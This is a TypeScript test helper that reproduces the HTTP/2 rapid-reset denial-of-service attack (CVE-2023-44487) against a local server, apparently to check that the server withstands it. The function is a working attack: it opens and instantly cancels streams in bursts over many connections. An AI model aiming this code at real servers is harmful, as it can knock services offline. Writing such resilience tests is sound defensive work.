// Runs on Node, imported by the tests: the rapid reset of CVE-2023-44487 against an HTTP/2 server over TLS on
// 127.0.0.1, bounded in connections and streams: each connection opens streams and cancels them at once, in bursts,
// until it has asked for its share or the server sends it away.
import { connect, constants, type ClientHttp2Session } from 'node:http2';

/** What {@link rapidReset} did: the streams it opened and cancelled, and its connections' local ports. */
export interface RapidReset {
  readonly attempted: number;
  readonly ports: ReadonlySet<number>;
  /** Ends every attacking connection still open. */
  destroy(): void;
}

/**
 * Opens `connections` connections to `origin` (trusting `ca`), each opening and cancelling up to `streams` streams
 * (a create's headers, no body) in bursts of 100, with a turn of the event loop between bursts, in which `onBurst`
 * is called (to sample the server's memory). Resolves once every connection has asked for its share or been sent
 * away; the connections are left for the caller to {@link RapidReset.destroy} once it has seen them go.
 */
export async function rapidReset(origin: string, ca: string, connections: number, streams: number, onBurst: () => void = () => {}): Promise<RapidReset> {
  let attempted = 0;
  const ports = new Set<number>();
  const attackers: ClientHttp2Session[] = [];
  const destroy = () => {
    for (const attacker of attackers) attacker.destroy();
  };
  try {
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const attacker = await new Promise<ClientHttp2Session>((resolve, reject) => {
          const opened = connect(origin, { ca }, () => resolve(opened));
          opened.once('error', reject);
        });
        attackers.push(attacker);
        attacker.on('error', () => {});
        ports.add(attacker.socket.localPort!);
        for (let burst = 0; burst < streams / 100 && !attacker.closed && !attacker.destroyed; burst++) {
          for (let i = 0; i < 100 && !attacker.closed && !attacker.destroyed; i++) {
            try {
              const stream = attacker.request({ ':method': 'POST', ':path': '/plants', 'content-type': 'application/json' }, { endStream: false });
              stream.on('error', () => {});
              stream.close(constants.NGHTTP2_CANCEL);
              attempted++;
            } catch {
              break;
            }
          }
          await new Promise((resolve) => setImmediate(resolve));
          onBurst();
        }
      }),
    );
  } catch (error) {
    destroy();
    throw error;
  }
  return { attempted, ports, destroy };
}
